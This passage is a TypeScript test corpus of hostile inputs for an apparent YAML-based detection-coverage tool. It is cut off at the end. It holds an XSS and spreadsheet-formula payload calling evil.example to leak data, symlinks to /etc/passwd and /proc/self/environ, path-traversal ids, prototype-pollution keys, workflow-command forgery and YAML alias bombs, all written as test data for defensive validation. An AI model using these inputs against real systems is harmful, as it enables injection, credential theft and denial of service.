/**
 * The hostile-input corpus: named cases, each an attack on one thing, run by corpus.test.ts against
 * `validate`, `score` and `gate` (repository cases) or every `import` kind (import cases).
 *
 * A repository case is what a pull request could add on top of a clean repository (BASE in
 * harness.ts, committed as the base revision): files in the working tree, links, large trees. Its
 * expectation is the exit code of `validate` (score and gate follow from it unless stated), a
 * finding with file and line where one applies, and whatever else the case is about (no secret in
 * any output, one comment marker, inert text).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TSchema } from '@sinclair/typebox';
import { isMap, isSeq, LineCounter, parseDocument, stringify, type Node } from 'yaml';
import { ConfigSchema, ControlSchema, DetectionSchema, GroupSchema, TelemetrySchema, ValidationsSchema } from '../../scripts/model/schemas.js';

export type Exit = 0 | 1 | 2;
export type Cmd = 'validate' | 'score' | 'gate';

export interface ExpectedFinding {
  file: string;
  code?: string | RegExp;
  /** The line, or the lines any of which is right (a key and its value may sit on two lines). */
  line?: number | number[];
}

export interface RepoCase {
  name: string;
  /** Files written over the clean repository in the working tree (the pull request's head). */
  files?: Record<string, string | Uint8Array>;
  /** Builds the rest of the case in the repository directory (links, fifos, large trees). */
  setup?: (dir: string) => void;
  /** Exit code of `validate`; `score` and `gate` give the same unless stated. */
  exit: Exit;
  score?: Exit;
  gate?: Exit;
  finding?: ExpectedFinding;
  /** Text that must appear in no output file and no printed line (a secret outside the repository). */
  secret?: string;
  /** Run `score` in a child process too and bound its peak memory (MB). */
  maxRssMb?: number;
  /** The commands run in-process (default all three). */
  commands?: Cmd[];
  /** Generated from the schemas, or large: the text-format run of validate is skipped (the JSON run checks the finding). */
  generated?: boolean;
  /** Takes seconds rather than milliseconds: run alone, never beside other cases. */
  large?: boolean;
  /** Extra flags for every command. */
  flags?: string[];
  /** What else must hold, given the repository directory after the commands ran. */
  check?: (dir: string) => void;
}

const enc = (s: string) => new TextEncoder().encode(s);
const yamlString = (s: string) => JSON.stringify(s); // a JSON string is a YAML double-quoted scalar

/** A secret that lives outside the repository; no output may ever contain it. */
export const SECRET = 'SECRET-7f3a9c-DO-NOT-PUBLISH';

/** A directory outside every case repository, holding content files that carry the secret. */
export function outsideDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'tidemark-outside-'));
  writeFileSync(join(dir, 'secret.yaml'), `id: det-secret\ntitle: ${SECRET}\nstatus: stable\ntechniques: [T1059.001]\n`);
  writeFileSync(join(dir, 'ctl.yaml'), `id: ctl-secret\ntitle: ${SECRET}\nstatus: implemented\ntechniques: [T1059.001]\n`);
  return dir;
}

/** Markup, script, a spreadsheet formula, table breakers and the sticky-comment marker, in one string. */
export const PAYLOAD =
  '=HYPERLINK("https://evil.example/?leak","click")<script>alert(1)</script><img src=x onerror=alert(2)>' +
  '[x](javascript:alert(3)) | cell | `code` <!-- tidemark:gate --> @channel\nsecond line\r\n| --- |';

const detection = (id: string, extra = '') => `id: ${id}\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\n${extra}`;

// ---------------------------------------------------------------------------------------------
// Wrong types at every field, generated from the schemas.

interface Target {
  file: string;
  schema: TSchema;
  /** A valid document with every optional field present, so each field has a line to point at. */
  full: unknown;
}

const TARGETS: Target[] = [
  {
    file: 'tidemark.yaml',
    schema: ConfigSchema,
    full: {
      $schema: '../schemas/tidemark.schema.json',
      attack: { domain: 'enterprise-attack', version: '18.1', sha256: 'a'.repeat(64) },
      organisation: { name: 'Example', platforms: ['Windows'] },
      profile: { include_campaigns: true, include_software: false, baseline: 0 },
      policy: {
        counted_statuses: ['stable'],
        validation_max_age_days: 180,
        review_max_age_days: 365,
        relevance: { high: 3, medium: 2, low: 1 },
        credit: { validated: 1, blocked: 1, detected: 0.5, mitigated: 0.5, failed: 0, visible: 0, blind: 0 },
      },
      gate: { fail_on: ['invalid'], new_groups_may_add_gaps: true, min_score: 0 },
      atomic_red_team: { index: 'atomics/index.csv' },
      site: { url: 'https://example.org/', base: '/' },
    },
  },
  {
    file: 'groups/apt29.yaml',
    schema: GroupSchema,
    full: {
      $schema: '../schemas/group.schema.json',
      id: 'G0016',
      name: 'APT29',
      relevance: 'high',
      rationale: 'r',
      reviewed: '2026-09-01',
      owner: 'cti@example.org',
      enabled: true,
      sources: [{ title: 't', url: 'https://example.org/', date: '2026-01-01' }],
      techniques: { add: [{ id: 'T1059.001', source: 's' }], remove: [{ id: 'T1200', reason: 'r' }] },
    },
  },
  {
    file: 'detections/det-ps.yaml',
    schema: DetectionSchema,
    full: {
      $schema: '../schemas/detection.schema.json',
      id: 'det-ps',
      title: 't',
      status: 'stable',
      techniques: ['T1059.001'],
      platforms: ['Windows'],
      telemetry: ['sysmon-process'],
      owner: 'soc@example.org',
      description: 'd',
      references: ['https://example.org/'],
      query: { language: 'splunk', text: 'index=x' },
      score: 1,
      location: ['siem'],
    },
  },
  {
    file: 'controls/ctl-asr.yaml',
    schema: ControlSchema,
    full: {
      $schema: '../schemas/control.schema.json',
      id: 'ctl-asr',
      title: 't',
      status: 'implemented',
      techniques: ['T1566.001'],
      mitigations: ['M1040'],
      compliance: { 'nist-800-53-r5': ['SI-3'], 'cis-v8': ['10.5'], 'iso-27001-2022': ['A.8.7'] },
      owner: 'o',
      description: 'd',
    },
  },
  {
    file: 'coverage/telemetry.yaml',
    schema: TelemetrySchema,
    full: {
      $schema: '../schemas/telemetry.schema.json',
      sources: [
        {
          id: 'sysmon-process',
          name: 'n',
          status: 'collected',
          platforms: ['Windows'],
          data_components: ['DC0032'],
          sigma: [{ product: 'windows', category: 'process_creation' }],
          retention_days: 90,
          description: 'd',
        },
      ],
    },
  },
  {
    file: 'coverage/validations/2026.yaml',
    schema: ValidationsSchema.anyOf[0] as TSchema,
    full: [
      {
        technique: 'T1059.001',
        date: '2026-10-01',
        outcome: 'detected',
        detection: 'det-ps',
        test: { type: 'atomic', id: 'x', name: 'n' },
        host: 'ws-1',
        notes: 'n',
      },
    ],
  },
];

type Path = (string | number)[];
type SchemaNode = { type?: string; properties?: Record<string, SchemaNode>; items?: SchemaNode; anyOf?: unknown[]; enum?: unknown[] };

/** Every field of a schema (recursing into objects and the first item of lists of objects). */
function fields(schema: SchemaNode, path: Path = []): { path: Path; schema: SchemaNode }[] {
  const out: { path: Path; schema: SchemaNode }[] = [];
  if (schema.type === 'array' && schema.items) {
    out.push({ path: [...path, 0], schema: schema.items });
    if (schema.items.properties) out.push(...fields(schema.items, [...path, 0]).filter((f) => f.path.length > path.length + 1));
    return out;
  }
  for (const [key, sub] of Object.entries(schema.properties ?? {})) {
    out.push({ path: [...path, key], schema: sub });
    if (sub.properties) out.push(...fields(sub, [...path, key]));
    else if (sub.type === 'array' && sub.items?.properties) out.push(...fields(sub, [...path, key]));
  }
  return out;
}

/** A value of the wrong type for a field: a number for text, text for numbers, a list for a map… */
function wrongValue(schema: SchemaNode): unknown {
  if (schema.anyOf) return [['a list is none of its forms']];
  switch (schema.type) {
    case 'string':
      return 12345;
    case 'number':
    case 'integer':
      return 'not-a-number';
    case 'boolean':
      return 'sometimes';
    case 'array':
      return 'not-a-list';
    default:
      return ['not', 'a', 'map'];
  }
}

function setIn(doc: unknown, path: Path, value: unknown): unknown {
  const root = structuredClone(doc) as Record<string | number, unknown>;
  let node = root;
  path.forEach((key, i) => {
    if (i === path.length - 1) node[key] = value;
    else {
      if (typeof node[key] !== 'object' || node[key] === null) node[key] = typeof path[i + 1] === 'number' ? [] : {};
      node = node[key] as Record<string | number, unknown>;
    }
  });
  return root;
}

/** Lines of the key and of the value at `path` in `text`. */
function linesOf(text: string, path: Path): number[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(text, { lineCounter });
  const lines = new Set<number>();
  let node: unknown = doc.contents;
  for (const key of path) {
    if (isMap(node)) {
      const pair = node.items.find((p) => String((p.key as { value?: unknown })?.value) === String(key));
      if (!pair) break;
      if (key === path[path.length - 1]) lines.add(lineCounter.linePos((pair.key as Node).range![0]).line);
      node = pair.value;
    } else if (isSeq(node) && typeof key === 'number') node = node.items[key];
  }
  const range = (node as Node | undefined)?.range;
  if (range) lines.add(lineCounter.linePos(range[0]).line);
  return [...lines];
}

export function wrongTypeCases(): RepoCase[] {
  return TARGETS.flatMap((target) =>
    fields(target.schema as SchemaNode).map(({ path, schema }) => {
      const text = stringify(setIn(target.full, path, wrongValue(schema)));
      const where = path.join('.') || '(document)';
      return {
        name: `wrong type: ${target.file} ${where} (${schema.anyOf ? 'union' : schema.type}) given ${JSON.stringify(wrongValue(schema))}`,
        files: { [target.file]: text },
        exit: 1 as Exit,
        finding: { file: target.file, code: 'schema', line: linesOf(text, path) },
        generated: true,
      };
    }),
  );
}

// ---------------------------------------------------------------------------------------------
// Hostile text in every free-text field: generated from the schemas too.

/** Paths of free-text strings (no pattern, no enum) in a schema, lists of them as `[path, 0]`. */
function textFields(schema: SchemaNode & { pattern?: string }, path: Path = []): Path[] {
  if (schema.type === 'string') return schema.pattern || schema.enum ? [] : [path];
  if (schema.type === 'array' && schema.items) return textFields(schema.items, [...path, 0]);
  return Object.entries(schema.properties ?? {}).flatMap(([key, sub]) => (key === '$schema' ? [] : textFields(sub, [...path, key])));
}

/** Fields whose text is looked up rather than shown: hostile text there is an error (see the reference case). */
const LOOKED_UP = new Set(['data_components', 'counted_statuses', 'platforms', 'index', 'url', 'base', 'references', 'location', 'sigma']);

function payloadEverywhere(): Record<string, string> {
  const files: Record<string, string> = {};
  for (const target of TARGETS) {
    let doc = structuredClone(target.full) as unknown;
    if (target.file === 'tidemark.yaml') {
      doc = setIn(doc, ['attack'], { domain: 'enterprise-attack', version: '18.1' });
      doc = setIn(doc, ['atomic_red_team'], undefined);
      doc = JSON.parse(JSON.stringify(doc));
      doc = setIn(doc, ['gate', 'fail_on'], ['invalid', 'regression', 'new_gap']);
    }
    for (const path of textFields(target.schema as SchemaNode)) {
      if (path.some((p) => LOOKED_UP.has(String(p)))) continue;
      doc = setIn(doc, path, `${PAYLOAD} ${path.join('.')}`);
    }
    files[target.file] = stringify(doc);
  }
  // A custom group (its name is shown), a failed run (its test and host are shown in the action),
  // and a collected source that sees a gap (its name is shown in the action).
  files['groups/x-evil.yaml'] = stringify({ id: 'X-evil', name: PAYLOAD, relevance: 'high', rationale: PAYLOAD, reviewed: '2026-09-01', techniques: { add: ['T1059.003', 'T1003.001'] } });
  files['coverage/validations/failed.yaml'] = stringify([
    { technique: 'T1059.003', date: '2026-10-02', outcome: 'not-detected', test: { type: 'manual', id: PAYLOAD, name: PAYLOAD }, host: PAYLOAD, notes: PAYLOAD },
  ]);
  return files;
}

// ---------------------------------------------------------------------------------------------
// Builders for the larger cases.

function deep(open: string, close: string, depth: number, leaf = 'x'): string {
  return `${open.repeat(depth)}${leaf}${close.repeat(depth)}`;
}

function billionLaughs(): string {
  const lines = ['id: det-lol', 'title: t', 'status: stable', 'techniques: [T1059.001]', 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 10; i++) lines.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]`);
  return `${lines.join('\n')}\n`;
}

function manyFiles(dir: string, n: number): void {
  const folder = join(dir, 'detections', 'many');
  mkdirSync(folder, { recursive: true });
  for (let i = 0; i < n; i++) writeFileSync(join(folder, `d${i}.yaml`), `id: det-m${i}\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\n`);
}

// ---------------------------------------------------------------------------------------------

export function repoCases(): RepoCase[] {
  const outside = outsideDir();
  const cases: RepoCase[] = [
    // Malformed YAML
    { name: 'yaml: unclosed flow sequence', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: t\nstatus: stable\ntechniques: [T1059.001\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-syntax' } },
    { name: 'yaml: unclosed flow mapping', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: t\nquery: { language: splunk\nstatus: stable\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-syntax' } },
    { name: 'yaml: bad indentation', files: { 'groups/bad.yaml': 'id: G0102\n  relevance: high\n rationale: x\nreviewed: 2026-09-01\n' }, exit: 1, finding: { file: 'groups/bad.yaml', code: 'yaml-syntax', line: [2, 3] } },
    { name: 'yaml: tabs as indentation', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: t\nstatus: stable\ntechniques:\n\t- T1059.001\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-syntax', line: [4, 5] } },
    { name: 'yaml: unterminated double quote', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: "never closed\nstatus: stable\ntechniques: [T1059.001]\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-syntax' } },
    { name: 'yaml: unterminated single quote', files: { 'controls/c.yaml': "id: ctl-x\ntitle: 'never closed\nstatus: implemented\ntechniques: [T1059.001]\n" }, exit: 1, finding: { file: 'controls/c.yaml', code: 'yaml-syntax' } },
    { name: 'yaml: stray --- splits a single-document file in two', files: { 'groups/two.yaml': 'id: G0102\nrelevance: high\nrationale: r\nreviewed: 2026-09-01\n---\nid: G0096\n' }, exit: 1, finding: { file: 'groups/two.yaml', code: 'yaml-syntax', line: 1 } },
    { name: 'yaml: stray --- inside a mapping', files: { 'controls/c.yaml': 'id: ctl-x\ntitle: t\n---\nstatus: implemented\ntechniques: [T1059.001]\n' }, exit: 1, finding: { file: 'controls/c.yaml' } },
    { name: 'yaml: a group file holding only a comment (empty, a warning)', files: { 'groups/empty.yaml': '# to be written\n' }, exit: 0, finding: { file: 'groups/empty.yaml', code: 'schema', line: 1 } },
    { name: 'yaml: tidemark.yaml holding only a comment', files: { 'tidemark.yaml': '# nothing\n' }, exit: 1, finding: { file: 'tidemark.yaml', code: 'schema', line: 1 } },
    { name: 'yaml: %YAML 1.1 directive turns dates and yes/no into other types', files: { 'groups/old.yaml': '%YAML 1.1\n---\nid: G0102\nrelevance: high\nrationale: r\nreviewed: 2026-09-01\nenabled: yes\n' }, exit: 1, finding: { file: 'groups/old.yaml', code: 'schema', line: 6 } },
    { name: 'yaml: unknown and language-specific tags (!!js/function, !!binary, !custom)', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: !!js/function "function () { return process.exit(3) }"\nstatus: !custom stable\ntechniques: [T1059.001]\ndescription: !!binary aGVsbG8=\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'schema', line: 5 } },
    { name: 'yaml: complex (non-scalar) mapping keys', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\n? [a, b]\n: c\n? { k: v }\n: d\n' }, exit: 0 },
    { name: 'yaml: alias to an undefined anchor', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: *nowhere\nstatus: stable\ntechniques: [T1059.001]\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-syntax', line: 2 } },
    { name: 'yaml: anchors and a few aliases (legitimate)', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: &t Encoded\nstatus: stable\ntechniques: &ts [T1059.001]\ndescription: *t\n' }, exit: 0 },
    { name: 'yaml: duplicate top-level key', files: { 'groups/dup.yaml': 'id: G0102\nrelevance: high\nrationale: r\nreviewed: 2026-09-01\nrelevance: low\n' }, exit: 1, finding: { file: 'groups/dup.yaml', code: 'yaml-duplicate-key', line: 5 } },
    { name: 'yaml: duplicate nested key', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\nquery:\n  language: splunk\n  text: a\n  language: kql\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-duplicate-key', line: 8 } },
    { name: 'yaml: keys 1 and "1" become one property', files: { 'detections/det-x.yaml': 'id: det-x\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\nx: { 1: a, "1": b }\n' }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'yaml-duplicate-key', line: 5 } },
    { name: 'yaml: duplicate keys in a flow mapping of a Sigma rule', files: { 'detections/sigma.yml': 'title: t\nid: 5f8a3c2e-1111-4c3b-9d1e-000000000001\nlogsource: { product: windows, product: linux }\ndetection: { sel: { a: 1 }, condition: sel }\n' }, exit: 1, finding: { file: 'detections/sigma.yml', code: 'yaml-duplicate-key', line: 3 } },
    { name: 'yaml: 10,000-deep flow sequences', files: { 'detections/deep.yaml': detection('det-deep', `x: ${deep('[', ']', 10_000)}\n`) }, exit: 1, finding: { file: 'detections/deep.yaml', code: /yaml-(too-complex|syntax)/ } },
    { name: 'yaml: 10,000-deep flow mappings', files: { 'detections/deep.yaml': detection('det-deep', `x: ${deep('{a: ', '}', 10_000)}\n`) }, exit: 1, finding: { file: 'detections/deep.yaml', code: /yaml-(too-complex|syntax)/ } },
    { name: 'yaml: 10,000-deep block sequences', files: { 'detections/deep.yaml': detection('det-deep', `x:\n  ${'- '.repeat(10_000)}x\n`) }, exit: 1, finding: { file: 'detections/deep.yaml', code: /yaml-(too-complex|syntax)/ } },
    { name: 'yaml: 10,000-deep nesting in an emulation result', files: { 'coverage/validations/deep.yaml': `- technique: T1059.001\n  date: 2026-10-01\n  outcome: detected\n  notes: ${deep('[', ']', 10_000)}\n` }, exit: 1, finding: { file: 'coverage/validations/deep.yaml', code: /yaml-(too-complex|syntax)/ } },
    { name: 'yaml: 100,000-deep nesting', large: true, files: { 'controls/deep.yaml': `x: ${deep('[', ']', 100_000)}\n` }, exit: 1, finding: { file: 'controls/deep.yaml', code: /yaml-(too-complex|syntax)/ } },
    { name: 'yaml: 300-deep nesting (parses; every later stage copes)', files: { 'detections/deep.yaml': detection('det-deep', `x: ${deep('{a: ', '}', 300)}\n`) }, exit: 0, finding: { file: 'detections/deep.yaml', code: 'unknown-key', line: 5 } },
    { name: 'yaml: alias bomb (a billion laughs)', files: { 'detections/lol.yaml': billionLaughs() }, exit: 1, finding: { file: 'detections/lol.yaml', code: 'yaml-too-complex' } },
    { name: 'yaml: one anchor, a thousand aliases', files: { 'detections/fan.yaml': detection('det-fan', `a: &a [x, y, z]\nb: [${Array.from({ length: 1000 }, () => '*a').join(', ')}]\n`) }, exit: 1, finding: { file: 'detections/fan.yaml', code: 'yaml-too-complex' } },
    { name: 'yaml: 130,000 unknown keys in one file (more findings than a spread takes, each to place)', large: true, generated: true, files: { 'detections/keys.yaml': detection('det-keys', Array.from({ length: 130_000 }, (_, i) => `k${i}: 1\n`).join('')) }, exit: 0, finding: { file: 'detections/keys.yaml', code: 'unknown-key', line: 5 } },
    { name: 'yaml: 30,000 keys with one duplicate at the end (a pairwise duplicate check takes seconds per run)', large: true, generated: true, files: { 'controls/keys.yaml': `${Array.from({ length: 30_000 }, (_, i) => `k${i}: 1\n`).join('')}k7: 2\n` }, exit: 1, finding: { file: 'controls/keys.yaml', code: 'yaml-duplicate-key', line: 30_001 } },
    { name: 'yaml: 130,000 references to an unknown technique (130,000 errors)', large: true, generated: true, files: { 'detections/techs.yaml': `id: det-t\ntitle: t\nstatus: stable\ntechniques: [${Array(130_000).fill('T9999').join(', ')}]\n` }, exit: 1, finding: { file: 'detections/techs.yaml', code: 'technique-unknown', line: 4 } },
    {
      name: 'yaml: a million tiny nodes just under the size limit',
      files: { 'detections/flood.yaml': detection('det-flood', `x: [${'a,'.repeat(4_900_000)}a]\n`) },
      exit: 1,
      finding: { file: 'detections/flood.yaml', code: 'yaml-too-complex', line: 5 },
      maxRssMb: 700,
    },

    // Bytes and encodings
    { name: 'size: a 50 MB file', files: { 'detections/huge.yaml': detection('det-huge', `description: "${'A'.repeat(50 * 1024 * 1024)}"\n`) }, exit: 1, finding: { file: 'detections/huge.yaml', code: 'file-too-large', line: 1 }, maxRssMb: 500 },
    { name: 'encoding: a binary file (ELF) named .yaml', files: { 'detections/elf.yaml': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0x0a, 0xff, 0xfe]) }, exit: 1, finding: { file: 'detections/elf.yaml', code: 'file-encoding', line: 1 } },
    { name: 'encoding: a PNG named .yml', files: { 'controls/logo.yml': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]) }, exit: 1, finding: { file: 'controls/logo.yml', code: 'file-encoding', line: 3 } },
    { name: 'encoding: invalid UTF-8 on line 2', files: { 'detections/det-x.yaml': new Uint8Array([...enc('id: det-x\ntitle: '), 0xc3, 0x28, ...enc('\nstatus: stable\ntechniques: [T1059.001]\n')]) }, exit: 1, finding: { file: 'detections/det-x.yaml', code: 'file-encoding', line: 2 } },
    { name: 'encoding: UTF-8-encoded surrogate (CESU) bytes', files: { 'groups/g.yaml': new Uint8Array([...enc('id: G0102\nrelevance: high\nrationale: '), 0xed, 0xa0, 0x80, ...enc('\nreviewed: 2026-09-01\n')]) }, exit: 1, finding: { file: 'groups/g.yaml', code: 'file-encoding', line: 3 } },
    { name: 'encoding: UTF-16 with a byte-order mark', files: { 'groups/utf16.yaml': new Uint8Array([0xff, 0xfe, ...[...'id: G0102\n'].flatMap((c) => [c.charCodeAt(0), 0])]) }, exit: 1, finding: { file: 'groups/utf16.yaml', code: 'file-encoding', line: 1 } },
    { name: 'encoding: a UTF-8 byte-order mark (valid)', files: { 'groups/bom.yaml': '\ufeffid: G0102\nrelevance: high\nrationale: r\nreviewed: 2026-09-01\n' }, exit: 0 },
    { name: 'encoding: CRLF line endings (valid)', files: { 'groups/crlf.yaml': 'id: G0102\r\nrelevance: high\r\nrationale: r\r\nreviewed: 2026-09-01\r\n', 'detections/crlf.yaml': 'id: det-crlf\r\ntitle: t\r\nstatus: stable\r\ntechniques: [T1059.001]\r\n' }, exit: 0 },
    { name: 'encoding: BOM and CRLF together with a duplicate key on line 3', files: { 'groups/both.yaml': '\ufeffid: G0102\r\nrelevance: high\r\nid: G0096\r\n' }, exit: 1, finding: { file: 'groups/both.yaml', code: 'yaml-duplicate-key', line: 3 } },
    { name: 'encoding: lone CR line endings (classic Mac)', files: { 'groups/cr.yaml': 'id: G0102\rrelevance: high\rrationale: r\rreviewed: 2026-09-01\r' }, exit: 1, finding: { file: 'groups/cr.yaml' } },
    { name: 'encoding: terminal escape sequences and NUL escapes in values', files: { 'detections/esc.yaml': detection('det-esc', 'description: "\\e[2J\\e]0;pwned\\a\\0 \\x9b31m"\n') }, exit: 0 },
    {
      name: 'output: a key with a line break forging a workflow command (::error::)',
      files: { 'detections/forge.yaml': detection('det-forge', '"x\\n::error file=tidemark.yaml::forged\\r\\n::add-mask::x": 1\n"\\e[31mred\\e[0m": 2\n') },
      exit: 0,
      finding: { file: 'detections/forge.yaml', code: 'unknown-key', line: 5 },
    },
    {
      name: 'output: a file name with a line break forging a workflow command',
      setup: (dir) => writeFileSync(join(dir, 'detections', 'x\n::error::forged.yaml'), detection('det-forged-name')),
      exit: 0,
    },

    // Prototype pollution and Object.prototype names
    {
      name: 'prototype: __proto__, constructor and prototype keys in every kind of file',
      files: {
        'tidemark.yaml': `${BASE_CONFIG}__proto__: { polluted: yes }\nconstructor: { prototype: { polluted: yes } }\n`,
        'groups/proto.yaml': 'id: G0102\nrelevance: high\nrationale: r\nreviewed: 2026-09-01\n__proto__: { polluted: yes }\ntechniques: { __proto__: { add: [T1003] } }\n',
        'detections/proto.yaml': detection('det-proto', '__proto__: { polluted: yes }\nconstructor: { prototype: { polluted: yes } }\nquery: { __proto__: { text: x }, language: a, text: b }\n'),
        'controls/proto.yaml': 'id: ctl-proto\ntitle: t\nstatus: implemented\ntechniques: [T1059.001]\ncompliance: { __proto__: [SI-3], constructor: [x] }\n',
        'coverage/validations/proto.yaml': '- technique: T1059.001\n  date: 2026-10-01\n  outcome: detected\n  __proto__: { detection: det-nope }\n  test: { type: manual, __proto__: { id: x } }\n',
        'detections/proto-sigma.yml': 'title: t\nid: 5f8a3c2e-1111-4c3b-9d1e-000000000002\nstatus: stable\nlogsource: { product: windows, __proto__: { category: x }, constructor: y }\ndetection: { sel: { a: 1 }, condition: sel, __proto__: { polluted: yes } }\ntags: [attack.t1059.001]\n',
        'detections/proto-collection.yml':
          'action: global\ntitle: t\n__proto__: { polluted: yes }\nlogsource: { product: windows, __proto__: { polluted: yes } }\n---\nid: 5f8a3c2e-1111-4c3b-9d1e-000000000003\nstatus: stable\ndetection: { sel: { a: 1 }, condition: sel }\nlogsource: { category: process_creation, __proto__: { y: 2 } }\n__proto__: { polluted: yes }\n',
      },
      exit: 1,
      finding: { file: 'tidemark.yaml', code: 'config-unknown-key', line: [2, 3] },
    },
    {
      name: 'prototype: ids and references named after Object.prototype members',
      files: {
        'detections/ctor.yaml': 'id: constructor\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\ntelemetry: [toString, hasOwnProperty]\n',
        'controls/ctor.yaml': 'id: toString\ntitle: t\nstatus: implemented\ntechniques: [T1059.001]\n',
        'coverage/validations/ctor.yaml': '- technique: T1059.001\n  date: 2026-10-02\n  outcome: detected\n  detection: valueOf\n',
        'coverage/telemetry.yaml': 'sources:\n  - id: sysmon-process\n    name: n\n    status: collected\n    data_components: [DC0032]\n  - id: isPrototypeOf\n    name: n\n    status: collected\n    data_components: [constructor, toString, __proto__]\n    sigma: [{ product: constructor, __proto__: x }]\n',
      },
      exit: 1,
      finding: { file: 'coverage/telemetry.yaml', code: 'data-component-unknown', line: 9 },
      check: (dir) => {
        const out = readOut(dir, 'report.json');
        if (out && /"name":\s*"Object"/.test(out)) throw new Error('a data component named after Object.prototype resolved to Object');
      },
    },

    {
      name: 'prototype: compliance frameworks named after Object.prototype members (warnings only, so score and gate evaluate them)',
      files: { 'controls/frameworks.yaml': 'id: ctl-frameworks\ntitle: t\nstatus: implemented\ntechniques: [T1059.001]\ncompliance: { constructor: [x], toString: [y], __proto__: [z], nist-800-53-r5: [SI-3] }\n' },
      exit: 0,
      finding: { file: 'controls/frameworks.yaml', code: 'unknown-key', line: 5 },
    },

    // Links
    {
      name: 'links: a file linked to a secret outside the repository',
      setup: (dir) => symlinkSync(join(outside, 'secret.yaml'), join(dir, 'detections', 'secret.yaml')),
      exit: 1,
      finding: { file: 'detections/secret.yaml', code: 'symlink-outside', line: 1 },
      secret: SECRET,
    },
    {
      name: 'links: a content folder linked outside the repository',
      setup: (dir) => {
        execFileSync('rm', ['-rf', join(dir, 'controls')]);
        symlinkSync(outside, join(dir, 'controls'));
      },
      exit: 1,
      finding: { file: 'controls', code: 'symlink-outside', line: 1 },
      secret: SECRET,
    },
    {
      name: 'links: tidemark.yaml linked to /etc/passwd',
      setup: (dir) => {
        execFileSync('rm', ['-f', join(dir, 'tidemark.yaml')]);
        symlinkSync('/etc/passwd', join(dir, 'tidemark.yaml'));
      },
      exit: 1,
      finding: { file: 'tidemark.yaml', code: 'symlink-outside', line: 1 },
      secret: 'root:x:0:0',
    },
    { name: 'links: a link to itself (loop)', setup: (dir) => symlinkSync('loop.yaml', join(dir, 'detections', 'loop.yaml')), exit: 1, finding: { file: 'detections/loop.yaml', code: 'symlink-outside' } },
    { name: 'links: a dangling link', setup: (dir) => symlinkSync('nowhere.yaml', join(dir, 'detections', 'dangling.yaml')), exit: 1, finding: { file: 'detections/dangling.yaml', code: 'symlink-outside' } },
    { name: 'links: a link to /dev/zero (endless read)', setup: (dir) => symlinkSync('/dev/zero', join(dir, 'detections', 'zero.yaml')), exit: 1, finding: { file: 'detections/zero.yaml', code: 'symlink-outside' } },
    { name: 'links: a link to /proc/self/environ (the runner environment)', setup: (dir) => symlinkSync('/proc/self/environ', join(dir, 'controls', 'env.yaml')), exit: 1, finding: { file: 'controls/env.yaml', code: 'symlink-outside' }, secret: 'TIDEMARK_ATTACK_MIRROR=' },
    {
      name: 'links: a link to a file elsewhere inside the repository (allowed)',
      setup: (dir) => {
        mkdirSync(join(dir, 'shared'));
        writeFileSync(join(dir, 'shared', 'det.yaml'), detection('det-shared'));
        symlinkSync('../shared/det.yaml', join(dir, 'detections', 'linked.yaml'));
      },
      exit: 0,
    },
    { name: 'special files: a FIFO named .yaml (a read would block forever)', setup: (dir) => execFileSync('mkfifo', [join(dir, 'detections', 'fifo.yaml')]), exit: 0 },
    { name: 'special files: a directory named .yaml', setup: (dir) => mkdirSync(join(dir, 'detections', 'folder.yaml')), exit: 0 },

    // Ids with path separators
    {
      name: 'ids: path separators and traversal in ids (../../etc/passwd, a/b, ..\\..)',
      files: {
        'detections/trav.yaml': 'id: ../../etc/passwd\ntitle: t\nstatus: stable\ntechniques: [T1059.001]\ntelemetry: [a/b]\n',
        'controls/trav.yaml': 'id: a/b\ntitle: t\nstatus: implemented\ntechniques: [T1059.001]\n',
        'groups/trav.yaml': 'id: X-../../etc\nrelevance: high\nrationale: r\nreviewed: 2026-09-01\n',
        'coverage/validations/trav.yaml': '- technique: T1059.001\n  date: 2026-10-01\n  outcome: detected\n  detection: ..\\..\\windows\n',
      },
      exit: 1,
      finding: { file: 'detections/trav.yaml', code: 'schema', line: 1 },
      check: (dir) => assertOnlyUsualOutputs(dir),
    },
    {
      name: 'ids: a Sigma rule id with path separators',
      files: { 'detections/sigma-trav.yml': 'title: t\nid: ../../../etc/passwd\nstatus: stable\nlogsource: { product: windows, category: process_creation }\ndetection: { sel: { a: 1 }, condition: sel }\ntags: [attack.t1059.001]\n' },
      exit: 0,
      check: (dir) => assertOnlyUsualOutputs(dir),
    },

    // Hostile text
    {
      name: 'text: HTML, JavaScript, formulas and the comment marker in every free-text field',
      files: payloadEverywhere(),
      exit: 0,
      gate: 0,
      check: (dir) => {
        const summary = readOut(dir, 'summary.md') ?? '';
